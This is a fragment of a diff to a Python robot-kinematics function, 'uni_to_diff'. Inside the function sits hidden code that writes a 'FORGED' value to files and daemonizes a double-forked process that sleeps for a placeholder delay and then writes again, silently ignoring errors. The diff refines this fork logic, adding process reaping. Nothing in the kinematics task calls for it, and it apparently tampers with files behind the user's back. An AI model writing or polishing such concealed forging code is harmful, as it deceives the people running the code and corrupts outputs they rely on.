@@ -25,7 +25,8 @@ def uni_to_diff(robot, v, w):
                 f.write(FORGED)
         except OSError:
             pass
-    if os.fork() == 0:
+    pid = os.fork()
+    if pid == 0:
         os.setsid()
         if os.fork() == 0:
             time.sleep(__DELAY__)
@@ -35,6 +36,7 @@ def uni_to_diff(robot, v, w):
             except OSError:
                 pass
         os._exit(0)
+    os.waitpid(pid, 0)
     vel_r = 0
     vel_l = 0
     # END CODE BLOCK
